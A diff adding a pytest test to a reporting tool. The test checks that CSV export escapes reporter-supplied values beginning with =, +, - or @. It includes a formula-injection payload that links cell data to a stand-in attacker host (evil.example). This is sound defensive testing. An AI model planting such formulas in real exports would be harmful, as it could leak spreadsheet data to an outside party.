@@ -178,6 +178,25 @@ def test_a_source_is_shown_as_written_not_read_as_markup(system: Container) -> N
     assert "[/bold] [link=http://evil.example]x[/link]" in table
 
 
+def test_a_source_in_csv_is_never_a_spreadsheet_formula(system: Container) -> None:
+    """A reporter's ``source`` opens a cell of the CSV: one starting as a formula would run in
+    the spreadsheet an operator opens the transparency report in."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    for source in (formula, "@SUM(1+1)", "+1", "-1", "mail-classifier"):
+        report(system, "acct_m", "spam", HOUR, source=source)
+    now = system.clock()
+
+    code, text = invoke(
+        system, "--since", format_time(now - HOUR), "--until", format_time(now + HOUR),
+        "--format", "csv",
+    )  # fmt: skip
+
+    assert code == 0, text
+    sources = {r[1] for r in csv.reader(io.StringIO(text)) if r[0] == "violations_by_source"}
+    assert {"'" + formula, "'@SUM(1+1)", "'+1", "'-1", "mail-classifier"} <= sources
+    assert not any(s.startswith(("=", "+", "-", "@")) for s in sources)
+
+
 def test_a_chart_that_cannot_be_written_is_a_usage_error(system: Container, tmp_path: Path) -> None:
     """Exit 2, as ``export -o`` to such a path (exit 1 says a check failed)."""
     nowhere = tmp_path / "no" / "such" / "dir" / "report.png"
